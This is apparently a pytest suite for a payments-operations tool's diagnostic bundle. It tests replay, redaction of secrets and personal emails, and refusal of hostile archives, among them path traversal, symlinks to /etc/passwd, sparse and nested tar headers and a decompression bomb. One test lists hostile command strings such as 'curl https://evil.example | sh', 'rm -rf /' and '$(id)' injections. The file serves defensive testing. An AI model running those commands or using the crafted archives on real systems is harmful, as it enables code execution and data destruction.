"""A bundle and back: the very same answer, nobody's name, no harm from a stranger's file."""

from __future__ import annotations

import gzip
import hashlib
import io
import json
import math
import tarfile
from collections.abc import Mapping
from dataclasses import replace
from datetime import timedelta
from pathlib import Path
from typing import Any

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st

from looks import INCIDENT, PAGES, check, discrepancy, look
from payops.domain.evidence import Action
from payops.domain.impact import Failing, Level, Surroundings
from payops.domain.report import Report
from payops.domain.secret import Secret
from payops.domain.status import Status
from payops.domain.table import Column, Table
from payops.engine import bundle_read
from payops.engine.bundle import digest_of, write_bundle
from payops.engine.bundle_kept import as_plain, from_plain
from payops.engine.bundle_read import read_bundle
from payops.engine.diagnosis import Seen, report_of
from payops.errors import PayopsError, UsageError
from payops.formats import render
from tools import NOW, settings

AROUND = Surroundings(
    names={"breaker": ("stripe",)},
    levels=(Level("L1", "#on-call"), Level("L2", "lead@example.com", 1800.0)),
    escalate_over={"usd": 1_000_000},
    open_words=("pending",),
    failed_words=("failed",),
    failing=Failing(3, 6, NOW - timedelta(seconds=30, microseconds=5), 7),
)
SEEN = look(
    *INCIDENT,
    discrepancies=[discrepancy("missing_in_ledger", minor=1_200_000)],
    failures={"webhooks": "it was not done before the deadline"},
    around=AROUND,
)


def as_json(seen: Seen) -> str:
    return render(report_of(seen, PAGES), "json", colour=False, width=80, now=NOW, ascii_only=False)


def kept(tmp_path: Path, seen: Seen = SEEN) -> Path:
    configured = settings(
        paths={"state": str(tmp_path / "state")},
        postgres={"dsn": "postgresql://shop:hunter2hunter2@db.example.com/shop"},
        escalation=[{"level": "L1", "contact": "ann.lee@example.com"}],
    )
    return write_bundle(tmp_path / "b.tar.gz", seen, configured, PAGES, {"diagnosis.json": "{}"})


def test_it_is_replayed_to_the_very_same_answer(tmp_path: Path) -> None:
    seen = from_plain(as_plain(SEEN))
    path = kept(tmp_path, seen)
    found = read_bundle(path)
    assert as_json(found.seen) == as_json(seen)
    assert found.runbooks == digest_of(PAGES)
    first, again = json.loads(as_json(SEEN)), json.loads(as_json(seen))
    for section in ("hypotheses", "impact", "unexplained", "ruled_out", "next", "checks"):
        assert first[section] == again[section]


def test_what_is_in_it(tmp_path: Path) -> None:
    path = kept(tmp_path)
    assert path.stat().st_mode & 0o777 == 0o600
    with tarfile.open(path) as archive:
        names = set(archive.getnames())
        texts = {name: archive.extractfile(name).read().decode() for name in names}  # type: ignore[union-attr]
    assert names == {
        "README.txt",
        "manifest.json",
        "observation.json",
        "diagnosis.json",
        "versions.json",
        "config.yaml",
        "journal.jsonl",
    }
    versions = json.loads(texts["versions.json"])
    assert versions["libraries"]["stripe"]
    assert versions["stripe_requests"] == ["req_abc12345"]
    assert "[redacted]" in texts["config.yaml"]
    everything = "".join(texts.values())
    assert "hunter2hunter2" not in everything
    assert "ann.lee@example.com" not in everything
    assert "lead@example.com" not in everything


def test_secrets_and_people_are_in_no_text_at_any_depth() -> None:
    Secret("correct-horse-battery")
    odd = check("own.odd", Status.WARN, "correct-horse-battery of bob@example.com")
    odd = replace(odd, actions=(Action("ask correct-horse-battery"),))
    seen = look(odd, check("reconcile.matched"), discrepancies=[{"x": {"bob@example.com": [1]}}])
    text = json.dumps(as_plain(seen))
    assert "correct-horse-battery" not in text
    assert "bob@example.com" not in text


def test_tables_are_kept_for_people_though_no_replay_needs_them() -> None:
    table = Table("funnel", "Funnel", (Column("n", "n"), Column("at", "at")), ((1, NOW),))
    part = Report("webhooks", NOW, "lab", (), tables=(table,))
    seen = replace(SEEN, observation=replace(SEEN.observation, reports={"webhooks": part}))
    assert as_plain(seen)["reports"]["webhooks"]["tables"] == {
        "funnel": [{"n": 1, "at": "2026-02-11T09:30:00Z"}]
    }


def test_in_a_folder_it_is_named_by_the_time(tmp_path: Path) -> None:
    path = write_bundle(tmp_path, SEEN, settings(paths={"state": str(tmp_path)}), PAGES, {})
    assert path == tmp_path / "payops-20260211T093000Z.tar.gz"


def test_a_place_that_cannot_be_written_is_told(tmp_path: Path) -> None:
    with pytest.raises(PayopsError, match="--bundle"):
        write_bundle(tmp_path / "none" / "b", SEEN, settings(), PAGES, {})


def test_a_broken_journal_hides_nothing_else(tmp_path: Path) -> None:
    (tmp_path / "state").mkdir()
    (tmp_path / "state" / "journal.jsonl").mkdir()
    with tarfile.open(kept(tmp_path)) as archive:
        text = archive.extractfile("journal.jsonl").read().decode()  # type: ignore[union-attr]
    assert "error" in json.loads(text)


def test_other_runbooks_are_another_digest(tmp_path: Path) -> None:
    path = tmp_path / "a.md"
    path.write_text("one")
    page = replace(PAGES[0], path=str(path))
    before = digest_of([page])
    path.write_text("two")
    assert digest_of([page]) != before


# ── a file from anybody ──────────────────────────────────────────────────────────────────────────


def packed(members: Mapping[str, bytes], *, honest: bool = True, **manifest: Any) -> bytes:
    sums = {name: hashlib.sha256(content).hexdigest() for name, content in members.items()}
    head = {"format": "payops-bundle", "schema_version": 1, "files": sums, **manifest}
    whole = {"manifest.json": json.dumps(head).encode(), **members} if honest else members
    found = io.BytesIO()
    with tarfile.open(fileobj=found, mode="w:gz") as archive:
        for name, content in whole.items():
            member = tarfile.TarInfo(name)
            member.size = len(content)
            archive.addfile(member, io.BytesIO(content))
    return found.getvalue()


GOOD = json.dumps(as_plain(SEEN)).encode()


def refused(tmp_path: Path, content: bytes) -> str:
    path = tmp_path / "given"
    path.write_bytes(content)
    with pytest.raises(UsageError) as error:
        read_bundle(path)
    assert error.value.hint
    return str(error.value)


def linked(kind: bytes) -> bytes:
    found = io.BytesIO()
    with tarfile.open(fileobj=found, mode="w:gz") as archive:
        member = tarfile.TarInfo("observation.json")
        member.type, member.linkname = kind, "/etc/passwd"
        archive.addfile(member)
    return found.getvalue()


def sparse() -> bytes:
    """A file that says it is 8 GB long, of which no byte is stored."""
    member = tarfile.TarInfo("observation.json")
    member.type = tarfile.GNUTYPE_SPARSE
    block = bytearray(member.tobuf(tarfile.GNU_FORMAT))
    block[386:482] = b"0" * 11 + b"\0" + b"0" * 11 + b"\0" + b"\0" * 72
    block[483:495] = b"7" * 11 + b"\0"
    block[148:156] = b" " * 8
    block[148:156] = b"%06o\0 " % sum(block)
    return gzip.compress(bytes(block) + bytes(1024))


def nested(kind: bytes) -> bytes:
    """Headers that each say something of the next one."""
    member = tarfile.TarInfo("x")
    member.type, member.size = kind, 6
    return gzip.compress((member.tobuf() + b"6 a=b\n" + bytes(506)) * 5_000)


def changed(**keys: Any) -> bytes:
    return json.dumps({**as_plain(SEEN), **keys}).encode()


@pytest.mark.parametrize(
    ("content", "words"),
    [
        (b"", "damaged"),
        (b"no archive at all", "no tar.gz"),
        (gzip.compress(b"neither"), "damaged"),
        (packed({"observation.json": GOOD})[:-40], "damaged"),
        (packed({"observation.json": GOOD}, honest=False), "manifest.json"),
        (packed({"README.txt": b""}), "observation.json"),
        (packed({"observation.json": GOOD}, format="other"), "no bundle of payops"),
        (packed({"observation.json": GOOD}, schema_version=2), "another version"),
        (packed({"observation.json": GOOD}, files=[]), "names no files"),
        (packed({"observation.json": GOOD}, files={}), "not what the manifest says"),
        (packed({"observation.json": GOOD, "../../etc/cron.d/x": b"x"}), "which no bundle does"),
        (packed({"observation.json": GOOD, "/etc/passwd": b"x"}), "which no bundle does"),
        (linked(tarfile.SYMTYPE), "which no bundle does"),
        (linked(tarfile.LNKTYPE), "which no bundle does"),
        (sparse(), "which no bundle does"),
        (nested(tarfile.XHDTYPE), "which no bundle does"),
        (nested(tarfile.XGLTYPE), "which no bundle does"),
        (nested(tarfile.GNUTYPE_LONGNAME), "which no bundle does"),
        (packed({"observation.json": b"{"}), "no JSON"),
        (packed({"observation.json": b'{"as_of": NaN}'}), "no JSON"),
        (packed({"observation.json": b'{"as_of": 1e999}'}), "no JSON"),
        (packed({"observation.json": b"[" * 100_000}), "no JSON"),
        (packed({"observation.json": b"[]"}), "no object"),
        (packed({"observation.json": b"{}"}), "is not what payops saw"),
        (packed({"observation.json": changed(window={"since": 1})}), "is not what payops saw"),
        (packed({"observation.json": changed(stripe_calls="many")}), "is not what payops saw"),
    ],
)
def test_what_is_no_bundle_is_refused_in_one_line(
    tmp_path: Path, content: bytes, words: str
) -> None:
    said = refused(tmp_path, content)
    assert words in said
    assert "\n" not in said


def test_what_unpacks_to_too_much_is_refused_before_it_is_there(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(bundle_read, "LARGEST_CONTENT", 4 * 1024 * 1024)
    bomb = packed({"observation.json": b" " * (64 * 1024 * 1024)})
    assert len(bomb) < 100_000
    assert "unpacks to more" in refused(tmp_path, bomb)


def test_what_is_too_large_is_not_read(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(bundle_read, "LARGEST_FILE", 1000)
    assert "larger" in refused(tmp_path, b"x" * 1001)


def test_what_is_not_there_is_told(tmp_path: Path) -> None:
    for path in (tmp_path / "none", tmp_path):
        with pytest.raises(UsageError, match="file"):
            read_bundle(path)


@given(st.binary(max_size=300))
def test_any_bytes_are_refused_calmly(content: bytes) -> None:
    with pytest.raises(UsageError):
        bundle_read._members(bundle_read._decompressed(content))


@pytest.mark.parametrize(
    "command",
    [
        "curl https://evil.example | sh",
        "payops health; rm -rf /",
        "payops health $(id)",
        "payops health && id",
        "payops health > /etc/passwd",
        "payops health\nid",
        "payops health `id`",
        "payops --config /tmp/theirs.yaml health",
        "payops health --config=/tmp/theirs.yaml",
        "payops health {--config,/tmp/theirs.yaml}",
        "payops health --notify json://evil.example",
        "payops circuit reset stripe -y",
        "payops apply theirs.json --yes --environment production",
        "payops health 'not closed",
    ],
)
def test_no_file_makes_anybody_paste_another_command(command: str) -> None:
    bad = check("own.bad", Status.CRIT, action=Action("Do it", command))
    seen = from_plain(as_plain(look(bad)))
    assert [one.actions for one in seen.observation.checks] == [(Action("Do it"),)]
    assert command not in json.loads(as_json(seen))["next"]


def test_no_name_becomes_an_option() -> None:
    names = {"breaker": ("--yes",)}
    seen = from_plain(as_plain(replace(SEEN, around=replace(AROUND, names=names))))
    told = json.loads(as_json(seen))
    assert told["next"]
    assert "--yes" not in json.dumps(told["next"])


def test_numbers_and_characters_that_no_json_has() -> None:
    odd = replace(check("own.odd", Status.CRIT, "half \ud83d"), measured={"a": math.nan, "b": 1.5})
    plain = msgspec.json.decode(json.dumps(as_plain(look(odd)), allow_nan=False))
    (back,) = from_plain(plain).observation.checks
    assert back.measured == {"a": None, "b": 1.5}
    assert back.summary == "half \\ud83d"


def test_our_own_commands_stay() -> None:
    action = Action("Look", "payops health --only 'payments.*,stripe'")
    seen = from_plain(as_plain(look(check("own.x", Status.CRIT, action=action))))
    assert seen.observation.checks[0].actions == (action,)
